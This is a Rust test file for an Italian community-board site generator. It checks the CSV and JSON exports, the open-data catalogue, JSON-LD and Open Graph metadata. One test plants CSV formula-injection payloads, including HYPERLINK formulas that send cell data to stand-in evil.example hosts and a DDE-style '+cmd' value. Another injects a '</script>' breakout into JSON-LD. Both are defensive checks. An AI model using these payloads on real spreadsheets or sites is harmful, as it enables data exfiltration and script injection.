//! Public data: the table, the catalogue, JSON-LD and Open Graph of pages.

use std::collections::{BTreeMap, BTreeSet};

use serde_json::Value as Json;
use sha2::{Digest, Sha256};

use crate::support::{
    SITE_URL, Tree, assert_no_problems, bacheca, installed_tool, read_tree, repository_path, run_program, run_tool,
    site_with_all_kinds, small_board, small_site, write,
};

/// Rows of a CSV file, each a map by column.
fn csv_rows(bytes: &[u8]) -> Vec<BTreeMap<String, String>> {
    let text = bytes.strip_prefix("\u{feff}".as_bytes()).expect("a spreadsheet wants the byte order mark");
    let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(text);
    let names = reader.headers().unwrap().clone();
    let rows = reader.records().map(|row| row.expect("every row has every column"));
    rows.map(|row| names.iter().map(str::to_owned).zip(row.iter().map(str::to_owned)).collect()).collect()
}

#[test]
fn csv_has_the_items_of_the_json() {
    let site = read_tree(small_site());
    let data: Json = serde_json::from_slice(&site["dati/opportunita.json"]).unwrap();
    let items: Vec<&Json> = data["opportunita"].as_array().unwrap().iter().collect();
    let rows = csv_rows(&site["dati/opportunita.csv"]);
    let slugs = |names: Vec<&str>| names.into_iter().map(str::to_owned).collect::<Vec<_>>();
    assert_eq!(
        slugs(rows.iter().map(|row| row["slug"].as_str()).collect()),
        slugs(items.iter().map(|item| item["slug"].as_str().unwrap()).collect())
    );
    for (row, item) in rows.iter().zip(&items) {
        assert_eq!(row["aperta"] == "sì", item["aperta"] == true, "{}", row["slug"]);
        assert_eq!(row["titolo"], item["titolo"].as_str().unwrap_or_default());
    }
    let job = rows.iter().find(|row| row["slug"] == "aiuto-cuoco-mensa").unwrap();
    assert_eq!((job["scadenza"].as_str(), job["zona"].as_str()), ("2026-11-30", "II"));
    let withdrawn = rows.iter().find(|row| row["stato"] == "ritirato").unwrap();
    assert!(withdrawn["ente"].is_empty() && withdrawn["sintesi"].is_empty());
}

/// Cells of a CSV file that a spreadsheet would take for a formula, however it divides the file: Python's module reads it
/// with each delimiter. A plus and digits are a telephone number.
const FORMULAS: &str = r#"
import csv, re, sys
for delimiter in ";,\t":
    with open(sys.argv[1], encoding="utf-8-sig", newline="") as file:
        for row in csv.reader(file, delimiter=delimiter):
            for cell in row:
                if cell.lstrip(" ")[:1] in tuple("=+-@\t\r") and not re.fullmatch(r"\+[0-9]+( \+?[0-9]+)*", cell):
                    print(repr(delimiter), repr(cell))
"#;

#[test]
fn csv_cell_is_never_a_formula() {
    let board = small_board();
    let file = board.path().join("content/opportunita/2026/sportello-diritti.md");
    let text = std::fs::read_to_string(&file).unwrap();
    let title =
        "'=HYPERLINK(\"https://evil.example.org/?\"&A1, \"Sportello\");=HYPERLINK(\"https://evil.example/?x=\"&A1)'";
    let summary = "'Uno sportello;+cmd|x, -1;\"=2\"; \"\"@SUM(A1), \"=3'";
    let text = text.replace("titolo: Sportello diritti", &format!("titolo: {title}"));
    let (before, rest) = text.split_once("sintesi: ").unwrap();
    let (_, after) = rest.split_once('\n').unwrap();
    std::fs::write(&file, format!("{before}sintesi: {summary}\n{after}")).unwrap();
    bacheca(board.path(), &["build", "--skip", "poster,card,print,search"]).expect_code(0);
    let table = board.path().join("public/dati/opportunita.csv");
    let rows = csv_rows(&std::fs::read(&table).unwrap());
    assert!(rows.iter().any(|row| row["titolo"].starts_with("'=HYPERLINK(\"https")), "{rows:?}");
    let found = run_tool("python3", "python3", &["-c", FORMULAS, table.to_str().unwrap()]);
    assert_eq!(String::from_utf8(found).unwrap(), "");
}

#[test]
fn years_have_the_items_of_the_whole_and_the_index_their_sums() {
    let site = read_tree(small_site());
    let data = |path: &str| serde_json::from_slice::<Json>(&site[path]).unwrap();
    let (whole, index) = (data("dati/opportunita.json"), data("dati/indice.json"));
    let all = whole["opportunita"].as_array().unwrap();
    assert_eq!(index["intero"]["annunci"], all.len());
    let mut of_years: Vec<Json> = Vec::new();
    for part in index["parti"].as_array().unwrap() {
        let [json, csv] = part["file"].as_array().unwrap().as_slice() else { panic!("{part}") };
        for file in [json, csv] {
            let path = file["url"].as_str().unwrap().strip_prefix(SITE_URL).unwrap();
            let bytes = &site[path];
            assert_eq!(path, format!("dati/{}/opportunita.{}", part["anno"], file["formato"].as_str().unwrap()));
            assert_eq!(file["byte"], bytes.len(), "{path}");
            assert_eq!(file["sha256"], format!("{:x}", Sha256::digest(bytes)), "{path}");
        }
        let year = data(json["url"].as_str().unwrap().strip_prefix(SITE_URL).unwrap());
        assert_eq!((&year["version"], &year["bacheca"]), (&whole["version"], &whole["bacheca"]));
        let items = year["opportunita"].as_array().unwrap();
        assert_eq!(part["annunci"], items.len());
        assert_eq!(part["aperti"], items.iter().filter(|item| item["aperta"] == true).count());
        for id in items.iter().filter_map(|item| item["ente"].as_str()) {
            assert_eq!(year["enti"][id], whole["enti"][id], "{id}");
        }
        of_years.extend(items.iter().cloned());
    }
    let slug = |item: &Json| item["slug"].as_str().unwrap().to_owned();
    of_years.sort_by_key(slug);
    assert_eq!(&of_years, all);
}

/// The next day the whole has another day; of the years none is written again.
#[test]
fn years_that_did_not_change_are_not_written_again() {
    let board = small_board();
    let build = |day: &str| {
        let root = board.path().to_str().unwrap();
        let arguments = ["--root", root, "--today", day, "build", "--skip", "poster,card,print,search"];
        run_program(&arguments).expect_code(0);
    };
    let data = board.path().join("public/dati");
    let years = || {
        let years = std::fs::read_dir(&data).unwrap().map(|entry| entry.unwrap().path()).filter(|path| path.is_dir());
        let files = years.map(|year| year.join("opportunita.json"));
        let mut times: Vec<_> =
            files.map(|file| (std::fs::metadata(&file).unwrap().modified().unwrap(), file)).collect();
        times.sort_by(|one, other| one.1.cmp(&other.1));
        times
    };
    build("2026-11-19");
    let (whole, before) = (std::fs::read(data.join("opportunita.json")).unwrap(), years());
    assert!(before.len() > 1, "{before:?}");
    build("2026-11-20");
    assert_ne!(whole, std::fs::read(data.join("opportunita.json")).unwrap());
    assert_eq!(years(), before);
    let item = board.path().join("content/opportunita/2026/sportello-diritti.md");
    let text = std::fs::read_to_string(&item).unwrap();
    write(&item, text.replace("titolo: Sportello diritti", "titolo: Sportello dei diritti"));
    build("2026-11-20");
    let changed = years().into_iter().zip(before).filter(|(after, before)| after != before);
    let changed: Vec<_> = changed.map(|((_, file), _)| file).collect();
    assert_eq!(changed, [data.join("2026/opportunita.json")]);
}

#[test]
fn catalogue_has_fields_required_by_dcat_ap_it() {
    let site = read_tree(small_site());
    let catalogue: Json = serde_json::from_slice(&site["dati/catalogo.jsonld"]).unwrap();
    let datasets = &catalogue["dcat:dataset"];
    let of_dataset = [
        "dct:identifier",
        "dct:title",
        "dct:description",
        "dct:modified",
        "dct:rightsHolder",
        "dct:accrualPeriodicity",
        "dcat:theme",
        "dcat:contactPoint",
        "dcat:distribution",
    ];
    let wanted = [
        (&catalogue, vec!["dct:title", "dct:description", "dct:publisher", "dct:modified", "dcat:dataset"]),
        (&datasets[0], of_dataset.to_vec()),
        (&datasets[1], of_dataset.to_vec()),
    ];
    for (thing, properties) in wanted {
        assert_no_problems(properties.into_iter().filter(|name| thing[*name].is_null()).map(str::to_owned).collect());
    }
    let files = |index: usize| datasets[index]["dcat:distribution"].as_array().unwrap();
    assert_eq!((files(0).len(), files(1).len()), (2, 4));
    for file in files(0).iter().chain(files(1)) {
        let path = file["dcat:downloadURL"]["@id"].as_str().unwrap().strip_prefix(SITE_URL).unwrap();
        assert!(site.contains_key(path), "{path}");
        assert_eq!(file["dct:license"]["@id"], "https://creativecommons.org/licenses/by/4.0/");
        let media_type = file["dcat:mediaType"]["@id"].as_str().unwrap();
        let expected = [("csv", "text/csv"), ("geojson", "application/geo+json"), ("json", "application/json")];
        let (_, expected) = expected.into_iter().find(|(ending, _)| path.ends_with(ending)).unwrap();
        assert!(media_type.ends_with(expected), "{path}: {media_type}");
    }
}

#[test]
fn item_page_is_an_entry_for_readers_of_microformats() {
    let script = "import json, mf2py, sys; print(json.dumps(mf2py.parse(open(sys.argv[1]))['items']))";
    let page = small_site().join("o/aiuto-cuoco-mensa/index.html");
    let python = installed_tool("moto/bin/python");
    let found = run_tool(python.to_str().unwrap(), "python3", &["-c", script, page.to_str().unwrap()]);
    let found: Json = serde_json::from_slice(&found).unwrap();
    let entry = found.as_array().unwrap().iter().find(|item| item["type"][0] == "h-entry").unwrap();
    let facts = &entry["properties"];
    assert_eq!(facts["name"][0], "Aiuto cuoco o cuoca nella mensa della scuola");
    assert_eq!(facts["url"][0], format!("{SITE_URL}o/aiuto-cuoco-mensa/"));
    assert!(facts["published"][0].as_str().unwrap().starts_with("2026-11-18"), "{facts}");
    assert_eq!(facts["author"][0]["properties"]["name"][0], "Cooperativa Mensa Aperta");
    assert!(facts["summary"][0].is_string() && facts["content"][0]["html"].is_string(), "{facts}");
}

/// JSON-LD of an item's page, if any.
fn json_ld(site: &Tree, slug: &str) -> Option<Json> {
    let page = String::from_utf8_lossy(&site[&format!("o/{slug}/index.html")]).into_owned();
    let data = page.split("<script type=\"application/ld+json\">").nth(1)?;
    Some(
        serde_json::from_str(data.split("</script>").next().unwrap()).unwrap_or_else(|error| panic!("{slug}: {error}")),
    )
}

#[test]
fn json_ld_has_required_properties_for_each_kind() {
    let organisation = "Associazione Il Ponte";
    // An item, and the expected value at each pointer in its JSON-LD; `*` is any value.
    let table: &[(&str, &[(&str, &str)])] = &[
        (
            "aiuto-cuoco-mensa",
            &[
                ("/@context", "https://schema.org"),
                ("/@type", "JobPosting"),
                ("/title", "Aiuto cuoco o cuoca nella mensa della scuola"),
                ("/description", "*"),
                ("/datePosted", "2026-11-18"),
                // The last day is included, so the value is the midnight after it.
                ("/validThrough", "2026-12-01T00:00:00+01:00"),
                ("/employmentType/0", "PART_TIME"),
                ("/employmentType/1", "TEMPORARY"),
                ("/hiringOrganization/name", "*"),
                ("/jobLocation/address/streetAddress", "via Rossi 2"),
                ("/jobLocation/address/addressLocality", "Borgo"),
                ("/jobLocation/address/addressCountry", "IT"),
                ("/baseSalary/currency", "EUR"),
                ("/baseSalary/value/unitText", "MONTH"),
                ("/baseSalary/value/value", "*"),
            ],
        ),
        (
            "formazione-full",
            &[
                ("/@type", "Course"),
                ("/name", "*"),
                ("/description", "*"),
                ("/provider/name", organisation),
                ("/offers/price", "*"),
                ("/offers/priceCurrency", "EUR"),
                ("/hasCourseInstance/0/@type", "CourseInstance"),
                ("/hasCourseInstance/0/courseMode", "Onsite"),
                ("/hasCourseInstance/0/startDate", "2026-12-01"),
                ("/hasCourseInstance/0/endDate", "2027-02-26"),
                ("/hasCourseInstance/0/courseWorkload", "PT100H"),
                ("/hasCourseInstance/0/location/address/streetAddress", "via Rossi 2"),
                ("/hasCourseInstance/1/courseMode", "Online"),
            ],
        ),
        (
            "evento-full",
            &[
                ("/@graph/0/@type", "Event"),
                ("/@graph/0/name", "*"),
                ("/@graph/0/startDate", "2026-12-01T09:00:00+01:00"),
                ("/@graph/0/endDate", "2027-02-26T18:00:00+01:00"),
                ("/@graph/0/eventStatus", "https://schema.org/EventScheduled"),
                ("/@graph/0/eventAttendanceMode", "https://schema.org/OfflineEventAttendanceMode"),
                ("/@graph/0/location/address/addressLocality", "Borgo"),
                ("/@graph/0/organizer/name", organisation),
                // The last day for booking, wholly included.
                ("/@graph/0/offers/availabilityEnds", "2026-11-30T00:00:00+01:00"),
                ("/@graph/1/eventAttendanceMode", "https://schema.org/OnlineEventAttendanceMode"),
                // One event for each day of an edition.
                ("/@graph/1/startDate", "2026-12-04"),
                ("/@graph/2/startDate", "2026-12-11"),
                ("/@graph/3/startDate", "2027-05"),
            ],
        ),
        (
            "notizia-full",
            &[
                ("/@type", "NewsArticle"),
                ("/headline", "*"),
                ("/datePublished", "2026-11-20"),
                ("/dateModified", "2026-11-20"),
                ("/publisher/name", "Bacheca di Borgo"),
                ("/author/name", organisation),
            ],
        ),
        (
            "normativa-full",
            &[("/@type", "NewsArticle"), ("/about/@type", "Legislation"), ("/about/legislationIdentifier", "*")],
        ),
        ("abitare-full", &[("/@type", "Service"), ("/provider/name", organisation), ("/serviceType", "Casa")]),
        (
            "sportello-diritti",
            &[
                ("/@type", "Service"),
                ("/areaServed/name", "Borgo"),
                ("/availableChannel/serviceLocation/geo/latitude", "*"),
                ("/audience/audienceType", "*"),
            ],
        ),
    ];
    let mut problems = Vec::new();
    for (slug, properties) in table {
        let data = json_ld(site_with_all_kinds(), slug).unwrap_or_else(|| panic!("{slug} says nothing"));
        for (place, wanted) in *properties {
            let found = data.pointer(place);
            let fits = found.is_some_and(|found| *wanted == "*" || found == *wanted);
            problems.extend((!fits).then(|| format!("{slug}{place}: {found:?}, not {wanted}")));
        }
    }
    assert_no_problems(problems);
}

#[test]
fn json_ld_has_words_of_the_translation_next_days_and_last_moment_for_booking() {
    let board = small_board();
    let items = board.path().join("content/opportunita/2026");
    let translation = "---\ntitolo: Kitchen hand\nsintesi: Six months in a kitchen.\nmodo: umana\ntesti:\n  - {originale: tenere pulita la cucina, traduzione: keep the kitchen & the bar clean}\n---\n\nText.\n";
    std::fs::write(items.join("aiuto-cuoco-mensa.en.md"), translation).unwrap();
    // Of three days one is over; nobody says what it costs.
    let event = "---\ntipo: evento\ntitolo: Passeggiate\nsintesi: Si cammina.\nente: ponte\npubblicato: 2026-11-02\nluogo: {indirizzo: via Rossi 2}\ndate: [2026-11-14, 2027-01-16, 2026-12-12]\norari: \"10:00-12:00\"\nmodalita: in presenza\ndestinatari: {genere: tutti}\ncosto: {tipo: a pagamento, agevolazione: gratis per chi vive in accoglienza}\niscrizione: non previsto\nprogramma: non previsto\ningresso: su prenotazione\nscadenza: 2026-12-05 ore 18:00\n---\n\nTesto.\n";
    std::fs::write(items.join("passeggiate.md"), event).unwrap();
    let root = board.path().to_str().unwrap();
    let build = ["--root", root, "--today", crate::support::TODAY, "build", "--skip", "poster,card,print,search"];
    run_program(&build).expect_code(0);
    let site = read_tree(&board.path().join("public"));
    let page = String::from_utf8_lossy(&site["en/o/aiuto-cuoco-mensa/index.html"]).into_owned();
    let data = page.split("<script type=\"application/ld+json\">").nth(1).unwrap().split("</script>").next().unwrap();
    let data: Json = serde_json::from_str(data).unwrap();
    assert_eq!(data["title"], "Kitchen hand");
    let description = data["description"].as_str().unwrap();
    assert!(description.starts_with("<p>Six months in a kitchen.</p>"), "{description}");
    assert!(description.contains("<li>keep the kitchen &amp; the bar clean</li>"), "{description}");
    assert!(!description.contains("tenere pulita"), "{description}");
    let italian = json_ld(&site, "aiuto-cuoco-mensa").unwrap();
    assert!(italian["description"].as_str().unwrap().contains("tenere pulita la cucina"), "{italian}");
    let walks = json_ld(&site, "passeggiate").unwrap();
    let starts: Vec<&Json> = walks["@graph"].as_array().unwrap().iter().map(|event| &event["startDate"]).collect();
    assert_eq!(starts, ["2026-12-12T10:00:00+01:00", "2027-01-16T10:00:00+01:00"]);
    assert_eq!(walks["@graph"][0]["offers"]["availabilityEnds"], "2026-12-05T18:00:00+01:00");
    assert_eq!(walks["@graph"][0]["offers"].get("price"), None);
}

#[test]
fn json_ld_is_absent_for_examples_and_closed_jobs() {
    let site = read_tree(small_site());
    assert_eq!(json_ld(&site, "italiano-a2"), None);
    assert!(json_ld(&site, "porte-aperte").is_some());
    let board = small_board();
    let root = board.path().to_str().unwrap();
    let skip = ["build", "--skip", "poster,card,print,search"];
    run_program(&[&["--root", root, "--today", "2026-12-01"], skip.as_slice()].concat()).expect_code(0);
    assert_eq!(json_ld(&read_tree(&board.path().join("public")), "aiuto-cuoco-mensa"), None);
    // Pages that search engines do not list have no JSON-LD.
    let untranslated = String::from_utf8_lossy(&site["en/o/aiuto-cuoco-mensa/index.html"]).into_owned();
    assert!(!untranslated.contains("ld+json"));
}

#[test]
fn json_ld_text_cannot_close_its_script_element() {
    let board = small_board();
    let file = board.path().join("content/opportunita/2026/sportello-diritti.md");
    let text = std::fs::read_to_string(&file).unwrap();
    let title = "\"Sportello </script><!-- & <b>diritti\"";
    std::fs::write(&file, text.replace("titolo: Sportello diritti", &format!("titolo: {title}"))).unwrap();
    // The page does not depend on the rule.
    let configuration = board.path().join("site.toml");
    let text = std::fs::read_to_string(&configuration).unwrap();
    let off = "[regole.unsafe-markup]\ngravita = \"spenta\"\nmotivo = \"prova\"\n";
    std::fs::write(&configuration, format!("{text}\n{off}")).unwrap();
    bacheca(board.path(), &["build", "--skip", "poster,card,print,search"]).expect_code(0);
    let site = read_tree(&board.path().join("public"));
    assert_eq!(json_ld(&site, "sportello-diritti").unwrap()["name"], "Sportello </script><!-- & <b>diritti");
    let page = String::from_utf8_lossy(&site["o/sportello-diritti/index.html"]).into_owned();
    assert_eq!(page.matches("</script>").count(), page.matches("<script").count());
}

#[test]
fn open_graph_tags_are_complete() {
    let site = read_tree(small_site());
    let page = |path: &str| String::from_utf8_lossy(&site[path]).into_owned();
    let tags = |page: &str| -> BTreeSet<String> {
        page.split("<meta property=\"").skip(1).filter_map(|tag| Some(tag.split('>').next()?.to_owned())).collect()
    };
    let job = tags(&page("o/aiuto-cuoco-mensa/index.html"));
    for tag in [
        "og:type\" content=\"article\"",
        "article:published_time\" content=\"2026-11-18T00:00:00+01:00\"",
        "og:locale\" content=\"it_IT\"",
        "og:image:alt\" content=\"Aiuto cuoco o cuoca nella mensa della scuola\"",
    ] {
        assert!(job.contains(tag), "{tag} is not in {job:#?}");
    }
    let course = tags(&page("ar/o/italiano-a2/index.html"));
    assert!(course.contains("og:locale\" content=\"ar_AR\""), "{course:#?}");
    // `og:locale:alternate` names the languages that an address answers in: each language has an address of its own.
    assert!(!course.iter().any(|tag| tag.starts_with("og:locale:alternate")), "{course:#?}");
    assert!(tags(&page("index.html")).contains("og:type\" content=\"website\""));
}

#[test]
fn job_shows_all_its_places_and_contracts() {
    let board = small_board();
    let job = std::fs::read_to_string(repository_path("tests/kinds/lavoro-several.md")).unwrap();
    write(&board.path().join("content/opportunita/2026/due-sedi.md"), job);
    bacheca(board.path(), &["build", "--skip", "poster,card,print,search"]).expect_code(0);
    let read = |path: &str| std::fs::read_to_string(board.path().join("public").join(path)).unwrap();
    let page = read("o/due-sedi/index.html");
    for words in ["via dei Libri 7", "via Roma 1", "tirocinio", "tempo determinato", "25 ore alla settimana"] {
        assert!(page.contains(words), "{words} is not in {page}");
    }
    assert!(page.contains("\"employmentType\":[\"INTERN\",\"PART_TIME\",\"TEMPORARY\"]"), "{page}");
    assert_eq!(page.matches("\"@type\":\"Place\"").count(), 2, "{page}");
    // A place with a district is listed in it.
    assert!(read("zone/ii/index.html").contains("o/due-sedi/"));
    let data = read("dati/opportunita.csv");
    assert!(data.contains("via dei Libri 7, Borgo; via Roma 1"), "{data}");
}

#[test]
fn programme_shows_its_days_and_ends() {
    let board = small_board();
    let event = std::fs::read_to_string(repository_path("tests/harmless/programme-of-two-days.md")).unwrap();
    write(&board.path().join("content/opportunita/2026/due-giorni.md"), event);
    let course = std::fs::read_to_string(repository_path("tests/faults/enrolment-of-an-edition-opens-too-late.md"));
    let course =
        course.unwrap().replace("aperto_dal: 2026-12-20", "aperto_dal: 2026-12-01").replace("2027-05", "2027-01");
    write(&board.path().join("content/opportunita/2026/cucito.md"), course);
    bacheca(board.path(), &["build", "--skip", "poster,card,print,search"]).expect_code(0);
    let read = |path: &str| {
        let page = std::fs::read_to_string(board.path().join("public").join(path)).unwrap();
        page.replace(['\u{2060}', '\u{202f}'], "").replace('\u{a0}', " ").replace("&#39;", "'")
    };
    for (path, words) in [
        ("o/due-giorni/index.html", "10:00–12:00 · Saluti"),
        ("o/due-giorni/index.html", "18:00 · Musica"),
        ("o/cucito/index.html", "Domande da martedì"),
        ("o/cucito/index.html", "Domande da gennaio"),
        ("en/o/cucito/index.html", "Applications from January"),
        ("dati/opportunita.json", "\"ora\":\"10:00-12:00\""),
        ("dati/opportunita.json", "\"giorno\":\"2026-12-13\""),
    ] {
        assert!(read(path).contains(words), "{words} is not in {path}: {}", read(path));
    }
}
